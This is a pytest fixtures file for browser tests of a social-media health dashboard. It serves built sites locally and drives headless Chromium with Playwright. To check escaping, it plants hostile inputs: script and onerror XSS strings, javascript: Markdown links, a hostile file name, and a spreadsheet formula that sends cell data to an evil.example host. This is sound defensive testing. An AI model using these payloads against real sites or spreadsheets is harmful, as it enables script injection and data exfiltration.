"""Fixtures for the browser tests: the demo site built once, served over real HTTP, opened in headless Chromium.

Chromium is Debian's package (`/usr/bin/chromium`), driven by Playwright; on a machine without it the tests install it
themselves (apt-get as root, or Playwright's own download when apt cannot) and say which in one line.
Sites are served by a thread running the standard library's HTTP server on 127.0.0.1, so pages load exactly as a
browser loads them from a web server (fetch, relative URLs, redirects), with no network beyond this machine.
"""

from __future__ import annotations

import contextlib
import csv
import functools
import http.server
import io
import os
import shutil
import subprocess
import sys
import tarfile
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal
from urllib.parse import urlparse

import hostile
import pytest
import yaml
from playwright.sync_api import Browser, ConsoleMessage, Page, Playwright, Route, ViewportSize, sync_playwright

from pipeline.demo.project import write_demo_project

ROOT = Path(__file__).parents[2]
SCREENSHOTS = ROOT / "build" / "screenshots"  # the CI uploads this folder as an artifact (gitignored: /build/)
DESKTOP: ViewportSize = {"width": 1280, "height": 900}
PHONE: ViewportSize = {"width": 375, "height": 812}
PUBLISHED_MONTHS = ("2026-09", "2026-10")

# Person-written text that must show as text and never run (see hostile_site).
HOSTILE_MENTION = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"> terrible awful service'
FORMULA_MENTION = '=HYPERLINK("https://evil.example/?c="&A1,"terrible awful, click") service'
HOSTILE_TITLE = 'Mentions <img src=x onerror="window.__pwned=3"> that shout'
# Markdown that became live javascript: links before (trust review): in a header's description, a tile label, a check
# name, and an export's file name.
MARKDOWN_LINK = (
    "[read more](javascript:window.__pwned=7) ![x](javascript:window.__pwned=8) {: onclick=window.__pwned=9 }"
)
HOSTILE_FILE = "inbox [notes](javascript:window.__pwned=10) <img src=x onerror=window.__pwned=11>.csv"
HOSTILE_QUERY = f"""/* ---
title: '{HOSTILE_TITLE}'
description: 'Written to check escaping: <script>window.__pwned=4</script> must show as text. {MARKDOWN_LINK}'
unit: mentions
grain: mention text
pillar: reputation
chart: {{type: bar, x: text, y: mentions}}
checks:
  - name: "[every row](javascript:window.__pwned=12) is fine"
    sql: SELECT 1 WHERE false
--- */
SELECT text, count(*)::INTEGER AS mentions
FROM mentions
WHERE contains(text, 'terrible awful')
GROUP BY text
ORDER BY text
"""
HOSTILE_TILES = """/* ---
title: Shouting weeks
unit: mentions
grain: week
pillar: reputation
chart: {x: week, y: mentions}
tiles:
  - label: "[shouts](javascript:window.__pwned=13) a week"
    value: sum(mentions)
--- */
SELECT date_trunc('week', published_at)::DATE AS week, count(*)::INTEGER AS mentions
FROM mentions
GROUP BY ALL
ORDER BY week
"""


# ---- running the project's command line -----------------------------------------------------------------------------
def social_health(*args: str, cwd: Path = ROOT, env: dict[str, str] | None = None) -> str:
    """Run this environment's `social-health`; a failure fails the test with the command's output."""
    command = [str(Path(sys.executable).parent / "social-health"), *args]
    done = subprocess.run(
        command, cwd=cwd, capture_output=True, text=True, check=False, env={**os.environ, **(env or {})}
    )
    if done.returncode != 0:
        pytest.fail(
            f"`social-health {' '.join(args)}` failed ({done.returncode}):\n{done.stdout[-3000:]}\n{done.stderr}"
        )
    return done.stdout


def git(*args: str, cwd: Path, env: dict[str, str] | None = None) -> bytes:
    done = subprocess.run(["git", *args], cwd=cwd, capture_output=True, check=False, env={**os.environ, **(env or {})})
    if done.returncode != 0:
        pytest.fail(f"git {' '.join(args)} failed: {done.stderr.decode(errors='replace').strip()}")
    return done.stdout


# ---- serving a folder over HTTP -------------------------------------------------------------------------------------
class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: Any) -> None:
        pass


@dataclass
class Served:
    folder: Path
    url: str  # http://127.0.0.1:<port>/ , ends with "/"

    def pages(self) -> list[str]:
        """Every page of the site as a path below the root ("", "pillars/care/", ...)."""
        paths = []
        for index in sorted(self.folder.rglob("index.html")):
            relative = index.parent.relative_to(self.folder).as_posix()
            paths.append("" if relative == "." else relative + "/")
        return paths


@contextlib.contextmanager
def serve(folder: Path) -> Iterator[Served]:
    handler = functools.partial(_QuietHandler, directory=str(folder))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)  # port 0: a free port
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield Served(folder, f"http://127.0.0.1:{server.server_address[1]}/")
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


# ---- the sites under test -------------------------------------------------------------------------------------------
@pytest.fixture(scope="session")
def demo_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The demo project, built once per session with the same command a person types."""
    folder = tmp_path_factory.mktemp("browser-demo")
    social_health("demo", "--dir", str(folder))
    return folder


@pytest.fixture(scope="session")
def demo_site(demo_project: Path) -> Iterator[Served]:
    """The demo, rebuilt with site_url = the test server's address, as a deployed site carries its own.

    Material's instant navigation only intercepts links listed in sitemap.xml, whose URLs come from site_url and
    must match the served scheme, host and port; without it every click is a full page load.
    """
    with serve(demo_project / "site") as served:
        config = demo_project / "social-health.yml"
        settings = yaml.safe_load(config.read_text(encoding="utf-8"))
        settings["site"]["site_url"] = served.url
        config.write_text(yaml.safe_dump(settings, sort_keys=False, allow_unicode=True), encoding="utf-8")
        social_health("build", "-c", str(config), cwd=demo_project)
        yield served


@pytest.fixture(scope="session")
def published_site(demo_project: Path) -> Iterator[Served]:
    """Two monthly versions of the demo published with mike to a local bare repository; its gh-pages tree, served.

    This is what GitHub Pages serves: versions.json at the root, one folder per month, latest/ redirecting.
    """
    folder = demo_project
    remote = folder.parent / f"{folder.name}-remote.git"
    identity = {
        "GIT_AUTHOR_NAME": "ci",
        "GIT_AUTHOR_EMAIL": "ci@example.org",
        "GIT_COMMITTER_NAME": "ci",
        "GIT_COMMITTER_EMAIL": "ci@example.org",
    }
    git("init", "-q", "--bare", str(remote), cwd=folder.parent)
    git("init", "-q", "-b", "main", cwd=folder)
    git("commit", "-q", "--allow-empty", "-m", "init", cwd=folder, env=identity)
    git("remote", "add", "origin", str(remote), cwd=folder)
    config = str(folder / "social-health.yml")
    for month in PUBLISHED_MONTHS:
        social_health("publish", "--month", month, "--push", "-c", config, cwd=folder, env=identity)
    tree = folder.parent / f"{folder.name}-gh-pages"
    tree.mkdir()
    archive = git("archive", "--format=tar", "gh-pages", cwd=remote)
    with tarfile.open(fileobj=io.BytesIO(archive)) as tar:
        tar.extractall(tree, filter="data")
    with serve(tree) as served:
        yield served


@pytest.fixture(scope="session")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A Spanish copy of the demo whose data and queries are hostile, built with the commands a person types.

    - mentions carrying HTML (<script>, onerror=) and a spreadsheet formula, charted by one extra query, so the text
      reaches a chart, its table, its CSV and the page title;
    - the planted personal data of tests/hostile.py (handles, emails, phone numbers in every form, in mentions,
      inbox messages, posts and rejected rows), in exports of the real layouts, one of them under a hostile name;
    - query headers with HTML and Markdown links in a title, a description, a tile label and a check name.

    The copy gets its own queries/ folder (the demo's config points at the repository's).
    """
    folder = tmp_path_factory.mktemp("browser-hostile")
    config_path = write_demo_project(folder, root=ROOT)
    _add_hostile_mentions(folder / "exports")
    planted = hostile.write_hostile_exports(folder / "exports" / "hostile")
    inbox = next(p for p in planted.files if p.name.startswith("inbox"))
    inbox.rename(inbox.with_name(HOSTILE_FILE))
    shutil.copytree(ROOT / "queries", folder / "queries")
    (folder / "queries" / "reputation" / "shouting_mentions.sql").write_text(HOSTILE_QUERY, encoding="utf-8")
    (folder / "queries" / "reputation" / "shouting_weeks.sql").write_text(HOSTILE_TILES, encoding="utf-8")
    config = yaml.safe_load(config_path.read_text(encoding="utf-8"))
    config["queries"] = "queries"
    config["site"]["language"] = "es"  # and in Spanish, so the charts' own words are checked too
    config_path.write_text(yaml.safe_dump(config, sort_keys=False, allow_unicode=True), encoding="utf-8")
    for command in ("ingest", "run", "build"):
        social_health(command, "-c", str(config_path), cwd=folder)
    with serve(folder / "site") as served:
        yield served


def _add_hostile_mentions(exports: Path) -> None:
    """Append two mentions to the newest Brandwatch export, copying a real row's shape (same columns and quoting)."""
    path = sorted(exports.rglob("brandwatch_mentions_*.csv"))[-1]
    text = path.read_text(encoding="utf-8")
    _, _, table = text.partition("\n\n")
    reader = list(csv.DictReader(io.StringIO(table)))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(reader[0].keys()), lineterminator="\n")
    for number, body in enumerate((HOSTILE_MENTION, FORMULA_MENTION)):
        row = dict(reader[-1])
        row.update(
            {
                "Date": row["Date"][:10] + f" 08:0{number}:00.0",
                "Snippet": body,
                "Full Text": body,
                "Url": f"https://x.com/someone_angry/status/199999999999999999{number}",
                "Domain": "x.com",
                "Sentiment": "negative",
                "Page Type": "twitter",
                "Thread Entry Type": "post",
                "Language": "en",
                "Author": "someone_angry",
                "Full Name": "Someone Angry",
                "Thread Id": f"199999999999999999{number}",
            }
        )
        writer.writerow(row)
    path.write_text(text.rstrip("\n") + "\n" + out.getvalue(), encoding="utf-8")


# ---- the browser ----------------------------------------------------------------------------------------------------
DEBIAN_CHROMIUM = Path("/usr/bin/chromium")
INSTALL_SECONDS = 900


def _apt_install_chromium() -> bool:
    """Debian's chromium package, installed with apt-get as root or through a sudo that asks no password."""
    if shutil.which("apt-get") is None:
        return False
    as_root = [] if os.geteuid() == 0 else ["sudo", "-n"]
    if as_root and shutil.which("sudo") is None:
        return False
    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
    install = ["apt-get", "install", "-y", "-q", "--no-upgrade", "--no-install-recommends", "chromium"]
    for command in (["apt-get", "update", "-q"], install):
        done = subprocess.run([*as_root, *command], capture_output=True, env=env, timeout=INSTALL_SECONDS, check=False)
        if done.returncode != 0:
            return False
    return True


def find_or_install_chromium(playwright_default: str) -> tuple[str | None, str]:
    """The Chromium the browser tests drive, and one line saying which: Debian's chromium when it is on PATH, else
    Playwright's own when it was downloaded before (nothing to install), else Debian's installed with apt, else
    Playwright's download (None: Playwright's default executable)."""
    found = shutil.which("chromium") or (str(DEBIAN_CHROMIUM) if DEBIAN_CHROMIUM.is_file() else None)
    if found:  # installed: never touched (no apt-get, so no upgrade either)
        return found, f"browser tests: Debian's chromium ({found})"
    if Path(playwright_default).is_file():
        return None, f"browser tests: Playwright's Chromium, downloaded before ({playwright_default})"
    if _apt_install_chromium() and (shutil.which("chromium") or DEBIAN_CHROMIUM.is_file()):
        found = shutil.which("chromium") or str(DEBIAN_CHROMIUM)
        return found, f"browser tests: no chromium here, so installed Debian's chromium with apt-get ({found})"
    done = subprocess.run(
        [sys.executable, "-m", "playwright", "install", "chromium"],
        capture_output=True,
        text=True,
        timeout=INSTALL_SECONDS,
        check=False,
    )
    if done.returncode != 0:
        last = (done.stderr or done.stdout).strip().splitlines()[-1:]
        pytest.fail(f"no chromium: not on PATH, apt-get could not install it, and Playwright's download failed: {last}")
    return None, "browser tests: no chromium package could be installed, so downloaded Playwright's own Chromium"


@pytest.fixture(scope="session")
def playwright_driver() -> Iterator[Playwright]:
    with sync_playwright() as driver:
        yield driver


@pytest.fixture(scope="session")
def browser(playwright_driver: Playwright, request: pytest.FixtureRequest) -> Iterator[Browser]:
    executable, said = find_or_install_chromium(playwright_driver.chromium.executable_path)
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is not None and capture is not None:
        with capture.global_and_fixture_disabled():  # else the line would go to the captured output of a test
            reporter.write_line(said)
    launched = playwright_driver.chromium.launch(executable_path=executable)
    yield launched
    launched.close()


@dataclass
class Problems:
    """What went wrong while pages were open: console errors, uncaught exceptions, requests leaving this machine."""

    console: list[str] = field(default_factory=list)
    exceptions: list[str] = field(default_factory=list)
    external: list[str] = field(default_factory=list)

    def all(self, allowed: tuple[str, ...] = ()) -> list[str]:
        console = [c for c in self.console if not any(a in c for a in allowed)]
        return (
            console + self.exceptions + [f"external request (the site must work offline): {u}" for u in self.external]
        )

    def clear(self) -> None:
        self.console.clear()
        self.exceptions.clear()
        self.external.clear()


@dataclass
class Tab:
    page: Page
    problems: Problems


def open_tab(browser: Browser, scheme: Literal["light", "dark"] = "light", viewport: ViewportSize = DESKTOP) -> Tab:
    """A fresh browser context (no stored palette choice) whose page records its problems; off-machine URLs fail."""
    context = browser.new_context(color_scheme=scheme, viewport=viewport, accept_downloads=True)
    problems = Problems()

    def stay_local(route: Route) -> None:
        host = urlparse(route.request.url).hostname
        if route.request.url.startswith(("data:", "blob:")) or host == "127.0.0.1":
            route.continue_()
        else:
            problems.external.append(route.request.url)
            route.abort()

    context.route("**/*", stay_local)
    page = context.new_page()

    def on_console(message: ConsoleMessage) -> None:
        if message.type == "error":
            problems.console.append(f"{message.text} [{message.location.get('url', '')}]")

    page.on("console", on_console)
    page.on("pageerror", lambda error: problems.exceptions.append(f"uncaught: {error}"))
    return Tab(page, problems)


@pytest.fixture
def tab(browser: Browser) -> Iterator[Tab]:
    opened = open_tab(browser)
    yield opened
    opened.page.context.close()


def wait_for_charts(page: Page) -> None:
    """Until every chart on the page is drawn or has shown its error text (charts.js marks each container)."""
    page.wait_for_function(
        """() => [...document.querySelectorAll('.sh-chart')]
                 .every(el => ['drawn', 'error'].includes(el.dataset.shState))""",
        timeout=20_000,
    )
